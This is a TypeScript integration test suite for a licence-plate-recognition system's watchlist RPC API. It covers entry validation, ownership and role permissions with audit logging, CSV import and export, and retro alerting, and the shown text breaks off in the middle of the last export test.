import type { CsvImportResult } from "@chaverim/domain/rpc/Watchlists"
import { importChunks } from "@chaverim/domain/WatchlistCsv"
import { afterAll, beforeAll, describe, expect, it } from "@effect/vitest"
import { parse } from "csv-parse/sync"
import * as Effect from "effect/Effect"
import * as Stream from "effect/Stream"
import { randomUUID } from "node:crypto"
import WebSocket from "ws"
import { detection, postBatch, type SignedIn, startServer, type TestServer } from "./harness"
import { type AlprClient, outcomeOf, rpcAs, rpcUrlOf } from "./rpcClient"

let server: TestServer
let rpcUrl: string

/** A real RpcClient over a real WebSocket, signed in as `user`. */
const as = <A, E>(user: SignedIn, f: (client: AlprClient) => Effect.Effect<A, E>): Promise<A> => rpcAs(rpcUrl, user.cookie, f)

const outcome = outcomeOf

/** NDJSON requests sent by hand, for payloads the typed client would refuse to send; each call's Exit. */
const rawCalls = (user: SignedIn, requests: ReadonlyArray<{ readonly tag: string; readonly payload: unknown }>) =>
  new Promise<ReadonlyArray<{ readonly _tag: string; readonly cause?: unknown }>>((resolve, reject) => {
    const socket = new WebSocket(rpcUrl, undefined, { headers: { cookie: user.cookie } })
    const exits = new Map<string, { readonly _tag: string; readonly cause?: unknown }>()
    let buffer = ""
    socket.on("open", () =>
      requests.forEach(({ payload, tag }, i) =>
        socket.send(JSON.stringify({ _tag: "Request", id: String(i + 1), tag, payload, headers: [] }) + "\n")))
    socket.on("message", (data) => {
      buffer += data.toString()
      const lines = buffer.split("\n")
      buffer = lines.pop()!
      for (const line of lines) {
        const message = JSON.parse(line) as { _tag: string; requestId: string; exit: { _tag: string; cause?: unknown } }
        if (message._tag === "Exit") exits.set(message.requestId, message.exit)
      }
      if (exits.size === requests.length) {
        socket.close()
        resolve(requests.map((_, i) => exits.get(String(i + 1))!))
      }
    })
    socket.on("error", reject)
  })

const query = async <T = Record<string, unknown>>(text: string, params: ReadonlyArray<unknown> = []) =>
  (await server.db.query(text, [...params])).rows as Array<T>

const auditOf = (userId: string) =>
  query<{ action: string; target: string; reason: string | null; details: Record<string, unknown>; outcome: string; address: string }>(
    "SELECT action, target, reason, details, outcome, address FROM audit_log WHERE actor_id = $1 AND action LIKE 'watchlist.%' ORDER BY id",
    [userId]
  )

/** Sends a file as importChunks cuts it, one chunk after another, and adds up the answers. */
const importFile = (client: AlprClient, watchlistId: string, text: string, budget?: number) =>
  Effect.gen(function*() {
    const importId = randomUUID()
    const answers: Array<CsvImportResult> = []
    for (const chunk of importChunks(text, budget)) {
      answers.push(yield* client.watchlists.importCsv({
        watchlist_id: watchlistId,
        csv: chunk.csv,
        first_line: chunk.first_line,
        reason: "Rockland PD hot sheet 2025-06",
        import_id: importId
      }))
    }
    const sum = (field: "imported" | "updated" | "unchanged" | "rejected") => answers.reduce((n, a) => n + a[field], 0)
    return {
      importId,
      chunks: answers.length,
      imported: sum("imported"),
      updated: sum("updated"),
      unchanged: sum("unchanged"),
      rejected: sum("rejected"),
      errors: answers.flatMap((a) => a.errors),
      lastLine: answers.at(-1)?.last_line
    }
  })

const exportText = (client: AlprClient, watchlistId: string) =>
  client.watchlists.exportCsv({ watchlist_id: watchlistId }).pipe(
    Stream.runFold("", (text, piece) => text + piece)
  )

const IN_A_YEAR = new Date(Date.now() + 365 * 86_400_000).toISOString()

describe("watchlists over RPC", () => {
  beforeAll(async () => {
    server = await startServer()
    rpcUrl = rpcUrlOf(server)
    // The alert engine takes work items as soon as they commit; this log keeps what was queued. The
    // trigger runs as its owner (this superuser): the server's serving role may not write the log.
    await server.db.query(`
      CREATE TABLE test_retro_log (work_id bigint NOT NULL, entry_ids bigint[] NOT NULL);
      CREATE FUNCTION test_retro_log() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$
      BEGIN
        INSERT INTO test_retro_log VALUES (NEW.id, NEW.entry_ids);
        RETURN NULL;
      END $$;
      CREATE TRIGGER test_retro_log AFTER INSERT ON alert_work
        FOR EACH ROW WHEN (NEW.entry_ids IS NOT NULL) EXECUTE FUNCTION test_retro_log();`)
  })

  afterAll(async () => {
    await server?.close()
  })

  it("lets an operator make a list and add an entry of each kind, stored canonical, audited, each queued for a retro check", async () => {
    const operator = await server.signIn("operator")
    const result = await as(operator, (client) =>
      Effect.gen(function*() {
        const list = yield* client.watchlists.create({ name: "  Stolen cars ", category: "stolen", priority: 1, colour: "#FF0000" })
        const exact = yield* client.watchlists.addEntry({
          watchlist_id: list.watchlist_id,
          value: " ab-c 123",
          note: "red Civic",
          reason: "RPD case 25-0412",
          expires_at: IN_A_YEAR
        })
        const ocr = yield* client.watchlists.addEntry({ watchlist_id: list.watchlist_id, kind: "ocr", value: "b0s 5", reason: "BOLO 7" })
        const wildcard = yield* client.watchlists.addEntry({ watchlist_id: list.watchlist_id, kind: "wildcard", value: "ab-1**", reason: "partial plate, witness" })
        const regex = yield* client.watchlists.addEntry({ watchlist_id: list.watchlist_id, kind: "regex", value: "XY\\d{3}", reason: "pattern from RPD" })
        const again = yield* Effect.exit(client.watchlists.addEntry({ watchlist_id: list.watchlist_id, value: "ABC 123", reason: "again" }))
        const page = yield* client.watchlists.entries({ watchlist_id: list.watchlist_id })
        const got = yield* client.watchlists.get({ watchlist_id: list.watchlist_id })
        return { list, exact, ocr, wildcard, regex, again, page, got }
      }))

    expect(result.list).toMatchObject({
      name: "Stolen cars",
      category: "stolen",
      priority: 1,
      colour: "#ff0000",
      owner_id: operator.userId,
      owner_username: operator.username,
      shared: true,
      active: true,
      entries: 0,
      retired_at: null,
      can_manage: true
    })
    expect([result.exact, result.ocr, result.wildcard, result.regex].map((e) => [e.kind, e.value])).toEqual([
      ["exact", "ABC123"],
      ["ocr", "B0S5"],
      ["wildcard", "AB1*"],
      ["regex", "XY\\d{3}"]
    ])
    expect(result.exact).toMatchObject({ note: "red Civic", reason: "RPD case 25-0412", added_by_name: operator.username, removed_at: null })
    expect(Date.parse(result.exact.expires_at!)).toBe(Date.parse(IN_A_YEAR))
    expect(outcome(result.again)).toBe(`BadRequest: ABC123 (exact) is already on "Stolen cars" as entry ${result.exact.entry_id}: update that entry instead`)
    expect(result.page.items.map((e) => e.value)).toEqual(["XY\\d{3}", "AB1*", "B0S5", "ABC123"])
    expect(result.page.next_cursor).toBeNull()
    expect(result.got.entries).toBe(4)

    // one retro-check work item per added entry, naming it
    const ids = [result.exact, result.ocr, result.wildcard, result.regex].map((e) => e.entry_id)
    const work = await query<{ entry_ids: Array<string> }>(
      "SELECT entry_ids FROM test_retro_log WHERE entry_ids && $1::bigint[] ORDER BY work_id",
      [ids]
    )
    expect(work.map((w) => w.entry_ids.map(String))).toEqual(ids.map((id) => [id]))

    // every change audited, by the operator, with the reason as evidence
    const audited = await auditOf(operator.userId)
    expect(audited.map((a) => [a.action, a.target, a.outcome])).toEqual([
      ["watchlist.create", `watchlist:${result.list.watchlist_id}`, "success"],
      ...ids.map(() => ["watchlist.entry.add", `watchlist:${result.list.watchlist_id}`, "success"])
    ])
    expect(audited[1]).toMatchObject({ reason: "RPD case 25-0412", details: { entry_id: result.exact.entry_id, kind: "exact", value: "ABC123" } })
    expect(audited[0]!.address).toMatch(/127\.0\.0\.1/)
  })

  it("raises retro alerts for reads of the last RETRO_ALERT_DAYS when an entry is added, and none for older reads", async () => {
    const { apiKey } = await server.collector("Retro site")
    const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString()
    const sent = await postBatch(server, apiKey, [
      detection({ timestamp: daysAgo(2), plate: { text: "RTR 201", confidence: 0.9 } }),
      detection({ timestamp: daysAgo(9), plate: { text: "RTR 902", confidence: 0.9 } })
    ])
    expect(sent.status).toBe(200)
    const operator = await server.signIn("operator")
    const list = await as(operator, (client) =>
      Effect.gen(function*() {
        const list = yield* client.watchlists.create({ name: "Retro check", category: "stolen" })
        yield* client.watchlists.addEntry({ watchlist_id: list.watchlist_id, value: "RTR201", reason: "reported stolen today" })
        yield* client.watchlists.addEntry({ watchlist_id: list.watchlist_id, value: "RTR902", reason: "reported stolen today" })
        return list
      }))
    // The engine takes the retro item when it commits; wait for it to be done with.
    const deadline = Date.now() + 15_000
    let alerts: Array<{ plate: string; retro: boolean; sightings: number }> = []
    while (Date.now() < deadline) {
      alerts = await query("SELECT plate, retro, sightings FROM alerts WHERE watchlist_id = $1 ORDER BY plate", [list.watchlist_id])
      const pending = await query("SELECT 1 FROM alert_work WHERE entry_ids IS NOT NULL")
      if (alerts.length > 0 && pending.length === 0) break
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    // The read of two days ago raises one retro alert; the one of nine days ago (beyond 7) none.
    expect(alerts).toEqual([{ plate: "RTR201", retro: true, sightings: 1 }])
  })

  it("rejects bad values with messages that say what was wrong, and stores none of them", async () => {
    const operator = await server.signIn("operator")
    const list = await as(operator, (client) => client.watchlists.create({ name: "Checks", category: "bolo" }))
    const id = list.watchlist_id
    const add = (payload: Record<string, unknown>) => ({ tag: "watchlists.addEntry", payload: { watchlist_id: id, reason: "test", ...payload } })
    const answers = await rawCalls(operator, [
      add({ value: " - " }),
      add({ kind: "regex", value: "/AB\\d/i" }),
      add({ kind: "regex", value: "ab\\d" }),
      add({ kind: "regex", value: "AB(" }),
      add({ kind: "regex", value: "(A)\\1" }),
      add({ kind: "wildcard", value: "**?" }),
      add({ kind: "exact", value: "A".repeat(33) }),
      add({ kind: "plate", value: "ABC" }),
      add({ value: "ABC", reason: "   " }),
      { tag: "watchlists.addEntry", payload: { watchlist_id: id, value: "ABC" } },
      add({ value: "ABC", expires_at: "next week" }),
      add({ value: "ABC", expires_at: "2001-01-01T00:00:00Z" }),
      { tag: "watchlists.create", payload: { name: "x", category: "hot" } },
      { tag: "watchlists.create", payload: { name: "x", category: "stolen", priority: 9 } },
      { tag: "watchlists.create", payload: { name: "x", category: "stolen", colour: "red" } },
      { tag: "watchlists.create", payload: { name: "x", category: "stolen", camera_ids: [randomUUID()] } },
      { tag: "watchlists.create", payload: { name: "x", category: "allow", camera_ids: ["00000000-0000-4000-8000-000000000000"] } },
      { tag: "watchlists.create", payload: { name: "checks", category: "stolen" } },
      { tag: "watchlists.update", payload: { watchlist_id: id } },
      { tag: "watchlists.entries", payload: { watchlist_id: id, limit: 1000 } }
    ])
    const expected = [
      "the plate is empty",
      "write the regular expression without surrounding slashes or flags",
      "plates are upper case",
      "the regular expression does not compile",
      "backreferences",
      "a wildcard pattern needs at least one character besides * and ?",
      "a plate is at most 32 characters",
      "kind must be one of exact, ocr, wildcard, regex",
      "reason must not be blank",
      "reason",
      "expires_at must be an ISO 8601 time",
      "expires_at 2001-01-01T00:00:00Z is in the past",
      "category must be one of stolen, bolo, missing_person, of_interest, allow",
      "priority must be a whole number from 1 (most urgent) to 5",
      "colour must be #rrggbb",
      "camera_ids are the gate of an allow list",
      "no such camera: 00000000-0000-4000-8000-000000000000",
      "a watchlist named \\\"checks\\\" already exists",
      "nothing to change",
      "limit must be between 1 and 500"
    ]
    answers.forEach((exit, i) => {
      expect(exit._tag, `answer ${i + 1}`).toBe("Failure")
      expect(JSON.stringify(exit.cause), `answer ${i + 1}`).toContain(expected[i])
    })
    // the past expiry and the taken name come from the service, as typed errors a form can show
    expect(JSON.stringify(answers[11]!.cause)).toContain("BadRequest")
    expect(JSON.stringify(answers[17]!.cause)).toContain("BadRequest")
    expect(await query("SELECT id FROM watchlist_entries WHERE watchlist_id = $1", [id])).toEqual([])
    expect(await query("SELECT id FROM watchlists WHERE name = 'x'")).toEqual([])

    // the typed client checks a value before sending it, with the same words
    const typed = await as(operator, (client) =>
      Effect.exit(client.watchlists.addEntry({ watchlist_id: id, kind: "regex", value: "[a-z]+", reason: "r" })))
    expect(outcome(typed)).toContain("plates are upper case")
  })

  it("lets operators change only their own lists and viewers none; admins any; refusals are audited and change nothing", async () => {
    const owner = await server.signIn("operator")
    const other = await server.signIn("operator")
    const viewer = await server.signIn("viewer")
    const admin = await server.signIn("admin")
    const lists = await as(owner, (client) =>
      Effect.gen(function*() {
        const shared = yield* client.watchlists.create({ name: "Owner shared", category: "of_interest" })
        const mine = yield* client.watchlists.create({ name: "Owner private", category: "bolo", shared: false })
        const entry = yield* client.watchlists.addEntry({ watchlist_id: shared.watchlist_id, value: "OWN1", reason: "r" })
        return { shared, mine, entry }
      }))
    const csv = "plate\nZZZ1\n"

    const otherSees = await as(other, (client) =>
      Effect.gen(function*() {
        const listed = yield* client.watchlists.list({})
        const shared = yield* client.watchlists.get({ watchlist_id: lists.shared.watchlist_id })
        const answers = yield* Effect.forEach([
          client.watchlists.get({ watchlist_id: lists.mine.watchlist_id }),
          client.watchlists.entries({ watchlist_id: lists.mine.watchlist_id }),
          client.watchlists.addEntry({ watchlist_id: lists.mine.watchlist_id, value: "NOPE1", reason: "r" }),
          client.watchlists.addEntry({ watchlist_id: lists.shared.watchlist_id, value: "NOPE1", reason: "r" }),
          client.watchlists.update({ watchlist_id: lists.shared.watchlist_id, name: "taken over" }),
          client.watchlists.retire({ watchlist_id: lists.shared.watchlist_id }),
          client.watchlists.updateEntry({ entry_id: lists.entry.entry_id, note: "mine now" }),
          client.watchlists.removeEntry({ entry_id: lists.entry.entry_id }),
          client.watchlists.importCsv({ watchlist_id: lists.shared.watchlist_id, csv, first_line: 2, reason: "r" })
        ], (call) => Effect.map(Effect.exit(call as Effect.Effect<unknown, unknown>), outcome))
        return { listed, shared, answers }
      }))
    const listedIds = otherSees.listed.map((l) => l.watchlist_id)
    expect(listedIds).toContain(lists.shared.watchlist_id)
    expect(listedIds).not.toContain(lists.mine.watchlist_id)
    expect(otherSees.shared.can_manage).toBe(false)
    expect(otherSees.answers.map((a) => a.split(":")[0])).toEqual([
      "NotFound",
      "NotFound",
      "NotFound",
      "Forbidden",
      "Forbidden",
      "Forbidden",
      "Forbidden",
      "Forbidden",
      "Forbidden"
    ])
    expect(otherSees.answers[3]).toBe(`Forbidden: only the owner of "Owner shared" or an admin may change it`)

    const viewerSees = await as(viewer, (client) =>
      Effect.gen(function*() {
        const listed = yield* client.watchlists.list({})
        const entries = yield* client.watchlists.entries({ watchlist_id: lists.shared.watchlist_id })
        const create = yield* Effect.exit(client.watchlists.create({ name: "Viewer's", category: "bolo" }))
        const add = yield* Effect.exit(client.watchlists.addEntry({ watchlist_id: lists.shared.watchlist_id, value: "V1", reason: "r" }))
        return { listed, entries, create, add }
      }))
    expect(viewerSees.listed.map((l) => l.watchlist_id)).toContain(lists.shared.watchlist_id)
    expect(viewerSees.listed.map((l) => l.watchlist_id)).not.toContain(lists.mine.watchlist_id)
    expect(viewerSees.listed.every((l) => !l.can_manage)).toBe(true)
    expect(viewerSees.entries.items.map((e) => e.value)).toEqual(["OWN1"])
    expect(outcome(viewerSees.create)).toBe("Forbidden: watchlists.create needs the operator role; you are viewer")
    expect(outcome(viewerSees.add)).toBe("Forbidden: watchlists.addEntry needs the operator role; you are viewer")

    // nothing the other operator or the viewer tried changed anything
    const rows = await query<{ name: string; deleted_at: Date | null }>(
      "SELECT name, deleted_at FROM watchlists WHERE id = $1",
      [lists.shared.watchlist_id]
    )
    expect(rows).toEqual([{ name: "Owner shared", deleted_at: null }])
    expect(await query<{ value: string; note: string | null; removed_at: Date | null }>(
      "SELECT value, note, removed_at FROM watchlist_entries WHERE watchlist_id = ANY($1::uuid[]) ORDER BY id",
      [[lists.shared.watchlist_id, lists.mine.watchlist_id]]
    )).toEqual([{ value: "OWN1", note: null, removed_at: null }])
    // the refusals by ownership are on the record, against the list
    const refused = await auditOf(other.userId)
    expect(refused.map((a) => [a.action, a.outcome, a.target])).toEqual(
      ["watchlist.entry.add", "watchlist.update", "watchlist.retire", "watchlist.entry.update", "watchlist.entry.remove", "watchlist.import"]
        .map((action) => [action, "denied", `watchlist:${lists.shared.watchlist_id}`])
    )

    // an admin sees and changes every list
    const adminDid = await as(admin, (client) =>
      Effect.gen(function*() {
        const listed = yield* client.watchlists.list({})
        const entry = yield* client.watchlists.addEntry({ watchlist_id: lists.mine.watchlist_id, value: "ADM1", reason: "admin" })
        const renamed = yield* client.watchlists.update({ watchlist_id: lists.mine.watchlist_id, name: "Owner private (checked)" })
        return { listed, entry, renamed }
      }))
    expect(adminDid.listed.map((l) => l.watchlist_id)).toEqual(expect.arrayContaining([lists.shared.watchlist_id, lists.mine.watchlist_id]))
    expect(adminDid.entry.added_by_name).toBe(admin.username)
    expect(adminDid.renamed).toMatchObject({ name: "Owner private (checked)", owner_id: owner.userId, can_manage: true })
    expect((await auditOf(admin.userId)).map((a) => a.action)).toEqual(["watchlist.entry.add", "watchlist.update"])
  })

  it("updates, removes and finds entries; retires a list, which then takes no changes", async () => {
    const operator = await server.signIn("operator")
    const result = await as(operator, (client) =>
      Effect.gen(function*() {
        const list = yield* client.watchlists.create({ name: "Lifecycle", category: "missing_person" })
        const id = list.watchlist_id
        const added = yield* Effect.forEach(["LC 100", "LC 101", "LC 102", "QQ 900", "LC 103"], (value, i) =>
          client.watchlists.addEntry({ watchlist_id: id, value, reason: `report ${i}`, note: i === 3 ? "grey van, dent" : null }))
        const first = yield* client.watchlists.entries({ watchlist_id: id, limit: 2 })
        const second = yield* client.watchlists.entries({ watchlist_id: id, limit: 2, before: first.next_cursor! })
        const third = yield* client.watchlists.entries({ watchlist_id: id, limit: 2, before: second.next_cursor! })
        const byPlate = yield* client.watchlists.entries({ watchlist_id: id, text: "lc-10" })
        const byNote = yield* client.watchlists.entries({ watchlist_id: id, text: "DENT" })
        const updated = yield* client.watchlists.updateEntry({ entry_id: added[0]!.entry_id, note: "found abandoned?", expires_at: IN_A_YEAR })
        const cleared = yield* client.watchlists.updateEntry({ entry_id: added[0]!.entry_id, expires_at: null })
        const removed = yield* client.watchlists.removeEntry({ entry_id: added[1]!.entry_id, reason: "vehicle recovered" })
        const live = yield* client.watchlists.entries({ watchlist_id: id })
        const all = yield* client.watchlists.entries({ watchlist_id: id, include_removed: true })
        const removedAgain = yield* Effect.exit(client.watchlists.removeEntry({ entry_id: added[1]!.entry_id }))
        const readded = yield* client.watchlists.addEntry({ watchlist_id: id, value: "LC101", reason: "seen again" })
        const retired = yield* client.watchlists.retire({ watchlist_id: id, reason: "case closed" })
        const afterRetire = yield* Effect.exit(client.watchlists.addEntry({ watchlist_id: id, value: "LC999", reason: "r" }))
        const listed = yield* client.watchlists.list({})
        const listedAll = yield* client.watchlists.list({ include_retired: true })
        return { list, added, first, second, third, byPlate, byNote, updated, cleared, removed, live, all, removedAgain, readded, retired, afterRetire, listed, listedAll }
      }))
    const values = (page: { readonly items: ReadonlyArray<{ readonly value: string }> }) => page.items.map((e) => e.value)
    expect([values(result.first), values(result.second), values(result.third)]).toEqual([["LC103", "QQ900"], ["LC102", "LC101"], ["LC100"]])
    expect(result.third.next_cursor).toBeNull()
    expect(values(result.byPlate)).toEqual(["LC103", "LC102", "LC101", "LC100"])
    expect(values(result.byNote)).toEqual(["QQ900"])
    expect(result.updated).toMatchObject({ note: "found abandoned?" })
    expect(Date.parse(result.updated.expires_at!)).toBe(Date.parse(IN_A_YEAR))
    expect(result.cleared).toMatchObject({ note: "found abandoned?", expires_at: null, reason: "report 0" })
    expect(result.removed).toMatchObject({ value: "LC101", removed_by_name: operator.username })
    expect(result.removed.removed_at).not.toBeNull()
    expect(values(result.live)).not.toContain("LC101")
    expect(values(result.all)).toContain("LC101")
    expect(outcome(result.removedAgain)).toContain("was removed")
    expect(result.readded.entry_id).not.toBe(result.removed.entry_id)
    expect(result.retired.retired_at).not.toBeNull()
    expect(result.retired).toMatchObject({ active: false, can_manage: false })
    expect(outcome(result.afterRetire)).toBe(`BadRequest: "Lifecycle" is retired: it and its entries can no longer be changed`)
    expect(result.listed.map((l) => l.watchlist_id)).not.toContain(result.list.watchlist_id)
    expect(result.listedAll.map((l) => l.watchlist_id)).toContain(result.list.watchlist_id)

    const audited = await auditOf(operator.userId)
    expect(audited.map((a) => a.action)).toEqual([
      "watchlist.create",
      ...result.added.map(() => "watchlist.entry.add"),
      "watchlist.entry.update",
      "watchlist.entry.update",
      "watchlist.entry.remove",
      "watchlist.entry.add",
      "watchlist.retire"
    ])
    const [update] = audited.filter((a) => a.action === "watchlist.entry.update")
    expect(update!.details).toMatchObject({ value: "LC100", from: { note: null, expires_at: null }, to: { note: "found abandoned?" } })
    expect(audited.find((a) => a.action === "watchlist.entry.remove")!.reason).toBe("vehicle recovered")
    expect(audited.at(-1)!.reason).toBe("case closed")
  })

  it("imports a CSV in chunks: bad lines reported by their line in the file, good ones stored, one retro item per chunk", async () => {
    const operator = await server.signIn("operator")
    const list = await as(operator, (client) => client.watchlists.create({ name: "Imported", category: "stolen" }))
    const id = list.watchlist_id
    // 2,000 good lines, with bad ones at known lines and a note that spans two lines
    const lines = ["plate,kind,note,expires_at,source"]
    const bad = new Map<number, string>()
    // the file's line number of the next record: a quoted note below spans two lines
    const nextLine = () => lines.reduce((n, record) => n + record.split("\n").length, 1)
    for (let i = 0; lines.length < 2_100; i++) {
      const line = nextLine()
      if (i % 97 === 13) {
        bad.set(line, "the plate is empty")
        lines.push(` - ,exact,no plate,,feed`)
      } else if (i % 211 === 5) {
        bad.set(line, "kind must be one of exact, ocr, wildcard, regex")
        lines.push(`IM${i},fuzzy,,,feed`)
      } else if (i % 307 === 7) {
        bad.set(line, "expires_at must be an ISO 8601 time")
        lines.push(`IM${i},exact,,tomorrow,feed`)
      } else if (i === 3) {
        // a repeat of an earlier line's entry, in another spelling (a repeat in a later chunk updates it instead)
        bad.set(line, "IM1 (exact) is already on line 3")
        lines.push("im-1,exact,again,,feed")
      } else if (i === 1_000) {
        lines.push(`IM${i},exact,"two\nlines, quoted",${IN_A_YEAR},feed`)
        lines.push(`IM${i + 1},regex,,,feed`) // after a two-line record: one line further down
        i++
      } else {
        lines.push(`IM${i},${i % 5 === 0 ? "ocr" : "exact"},note ${i},${i % 2 === 0 ? IN_A_YEAR : ""},feed`)
      }
    }
    const text = lines.join("\n") + "\n"
    const fileLines = text.split("\n").length - 1
    const good = fileLines - 1 - bad.size - 1 // the header; the bad lines; the quoted note's second line

    const workBefore = Number((await query<{ n: string | null }>("SELECT max(work_id) AS n FROM test_retro_log"))[0]!.n ?? 0)
    const first = await as(operator, (client) => importFile(client, id, text, 16 * 1024))
    expect(first.chunks).toBeGreaterThan(3)
    expect(first).toMatchObject({ imported: good, updated: 0, unchanged: 0, rejected: bad.size, lastLine: fileLines })
    expect(first.errors.map((e) => e.line)).toEqual([...bad.keys()])
    first.errors.forEach((e) => expect(e.message, `line ${e.line}`).toContain(bad.get(e.line)!))
    const stored = await query<{ id: string; kind: string; value: string; note: string | null }>(
      "SELECT id, kind, value, note FROM watchlist_entries WHERE watchlist_id = $1 AND removed_at IS NULL ORDER BY id",
      [id]
    )
    expect(stored).toHaveLength(good)
    expect(stored.find((e) => e.value === "IM1000")!.note).toBe("two\nlines, quoted")
    expect(stored.find((e) => e.value === "IM1001")!.kind).toBe("regex")
    expect(stored.find((e) => e.value === "IM10")!.kind).toBe("ocr")

    // retro checks: one work item per chunk, together naming exactly the new entries
    const work = await query<{ entry_ids: Array<string> }>(
      "SELECT entry_ids FROM test_retro_log WHERE work_id > $1 ORDER BY work_id",
      [workBefore]
    )
    expect(work).toHaveLength(first.chunks)
    expect(work.flatMap((w) => w.entry_ids.map(String)).sort()).toEqual(stored.map((e) => e.id).sort())

    // the same file again, with some notes changed: updated in place, no duplicates, nothing to retro-check
    const changedText = text.replace("note 2,", "note 2 (changed),").replace("note 4,", "note 4 (changed),")
    const second = await as(operator, (client) => importFile(client, id, changedText, 16 * 1024))
    expect(second).toMatchObject({ imported: 0, updated: 2, unchanged: good - 2, rejected: bad.size })
    expect(await query("SELECT count(*)::int AS n FROM watchlist_entries WHERE watchlist_id = $1", [id])).toEqual([{ n: good }])
    expect((await query<{ note: string }>("SELECT note FROM watchlist_entries WHERE value = 'IM2'"))[0]!.note).toBe("note 2 (changed)")
    expect(await query("SELECT work_id FROM test_retro_log WHERE work_id > $1", [workBefore])).toHaveLength(first.chunks)

    // each chunk audited, tied together by the import id
    const imports = (await auditOf(operator.userId)).filter((a) => a.action === "watchlist.import")
    expect(imports).toHaveLength(first.chunks + second.chunks)
    expect(imports.every((a) => a.reason === "Rockland PD hot sheet 2025-06" && a.target === `watchlist:${id}`)).toBe(true)
    expect(imports.filter((a) => a.details["import_id"] === first.importId)
      .reduce((n, a) => n + (a.details["imported"] as number), 0)).toBe(good)

    // a file without a plate column imports nothing, and says why
    const noPlate = await as(operator, (client) =>
      Effect.exit(client.watchlists.importCsv({ watchlist_id: id, csv: "registration,note\nAB1,x\n", first_line: 2, reason: "r" })))
    expect(outcome(noPlate)).toContain("BadRequest: the CSV has no plate column")
  })

  it("imports lines that give their own reasons without a default reason; a line lacking both is a bad line", async () => {
    const operator = await server.signIn("operator")
    const list = await as(operator, (client) => client.watchlists.create({ name: "Reasons per line", category: "stolen" }))
    const csv = "plate,note,reason\nRL1,,stolen per RPD 26-1\nRL2,blue,\nRL3,,BOLO 12\n"
    const result = await as(operator, (client) =>
      client.watchlists.importCsv({ watchlist_id: list.watchlist_id, csv, first_line: 2 }))
    expect(result).toMatchObject({ imported: 2, updated: 0, rejected: 1 })
    expect(result.errors).toEqual([{ line: 3, message: "reason missing: give one on the line or a default reason" }])
    expect(await query("SELECT value, reason FROM watchlist_entries WHERE watchlist_id = $1 ORDER BY value", [list.watchlist_id]))
      .toEqual([{ value: "RL1", reason: "stolen per RPD 26-1" }, { value: "RL3", reason: "BOLO 12" }])
    // A file without a reason column and no default: every line is reported, nothing stored, no failure.
    const none = await as(operator, (client) =>
      client.watchlists.importCsv({ watchlist_id: list.watchlist_id, csv: "plate\nRL4\nRL5\n", first_line: 2 }))
    expect(none).toMatchObject({ imported: 0, rejected: 2 })
    expect(none.errors.map((e) => e.line)).toEqual([2, 3])
    // With a default, the same line goes in with it.
    const withDefault = await as(operator, (client) =>
      client.watchlists.importCsv({ watchlist_id: list.watchlist_id, csv, first_line: 2, reason: "hot sheet 7" }))
    expect(withDefault).toMatchObject({ imported: 1, rejected: 0 })
    expect(await query("SELECT reason FROM watchlist_entries WHERE watchlist_id = $1 AND value = 'RL2'", [list.watchlist_id]))
      .toEqual([{ reason: "hot sheet 7" }])
    const audited = (await auditOf(operator.userId)).filter((a) => a.action === "watchlist.import")
    expect(audited.map((a) => [a.reason, a.details["rejected"]])).toEqual([[null, 1], [null, 2], ["hot sheet 7", 0]])
  })

  it("imports a 100,000-line file over RPC, as the web app sends it, in seconds", async () => {
    const operator = await server.signIn("operator")
    const rows = ["plate,kind,note,reason,expires_at"]
    for (let i = 0; i < 100_000; i++) {
      rows.push(`RB${i.toString(36).toUpperCase().padStart(4, "0")},${i % 10 === 0 ? "ocr" : "exact"},bulk ${i},feed ${i % 7},${i % 3 === 0 ? IN_A_YEAR : ""}`)
    }
    const text = rows.join("\n") + "\n"
    const list = await as(operator, (client) => client.watchlists.create({ name: "RPC bulk", category: "of_interest" }))
    const started = performance.now()
    const first = await as(operator, (client) => importFile(client, list.watchlist_id, text))
    const firstSeconds = (performance.now() - started) / 1000
    const again = performance.now()
    const second = await as(operator, (client) => importFile(client, list.watchlist_id, text))
    const secondSeconds = (performance.now() - again) / 1000
    console.log(
      `watchlist import over RPC of 100,000 lines (${(text.length / 1e6).toFixed(1)} MB, ${first.chunks} chunks): ` +
        `${firstSeconds.toFixed(2)} s new, ${secondSeconds.toFixed(2)} s again (all unchanged)`
    )
    expect(first).toMatchObject({ imported: 100_000, rejected: 0, lastLine: 100_001 })
    expect(second).toMatchObject({ imported: 0, updated: 0, unchanged: 100_000 })
    // generous: reported, not held to a tight bound on a shared 2-core machine
    expect(firstSeconds).toBeLessThan(40)
  }, 120_000)

  it("exports the live entries as CSV that imports back into another list as it is", async () => {
    const operator = await server.signIn("operator")
    const result = await as(operator, (client) =>
      Effect.gen(function*() {
        const list = yield* client.watchlists.create({ name: "Round trip", category: "bolo" })
        const id = list.watchlist_id
        yield* client.watchlists.addEntry({ watchlist_id: id, value: "RT1", note: "comma, \"quote\"\nand a new line", reason: "why, exactly", expires_at: IN_A_YEAR })
        yield* client.watchlists.addEntry({ watchlist_id: id, kind: "regex", value: "RT\\d{1,3}", reason: "pattern" })
        yield* client.watchlists.addEntry({ watchlist_id: id, kind: "wildcard", value: "R?T*", reason: "partial" })
        const gone = yield* client.watchlists.addEntry({ watchlist_id: id, kind: "ocr", value: "RT0", reason: "removed later" })
        yield* client.watchlists.removeEntry({ entry_id: gone.entry_id })
        const exported = yield* exportText(client, id)
        const copy = yield* client.watchlists.create({ name: "Round trip copy", category: "bolo" })
        const imported = yield* importFile(client, copy.watchlist_id, exported)
        const again = yield* exportText(client, copy.watchlist_id)
        return { id, copy, exported, imported, again }
      }))
    const records = parse(result.exported, { columns: true }) as Array<Record<string, string>>
    expect(Object.keys(records[0]!)).toEqual(["plate", "kind", "note", "reason", "expires_at", "added_by", "created_at"])
    expect(records.map((r) => [r["plate"], r["kind"], r["note"], r["reason"]])).toEqual([
      ["RT1", "exact", "comma, \"quote\"\nand a new line", "why, exactly"],
      ["RT\\d{1,3}", "regex", "", "pattern"],
      ["R?T*", "wildcard", "", "partial"]
    ])
    expect(Date.parse(records[0]!["expires_at"]!)).toBe(Date.parse(IN_A_YEAR))
    expect(result.imported).toMatchObject({ imported: 3, rejected: 0 })
    const fields = (text: string) =>
      (parse(text, { columns: true }) as Array<Record<string, string>>).map((r) => [r["plate"], r["kind"], r["note"], r["reason"], r["expires_at"]])
    expect(fields(result.again)).toEqual(fields(result.exported))

    const exports = (await auditOf(operator.userId)).filter((a) => a.action === "watchlist.export")
    expect(exports.map((a) => [a.target, a.details["entries"]])).toEqual([
      [`watchlist:${result.id}`, 3],
      [`watchlist:${result.copy.watchlist_id}`, 3]
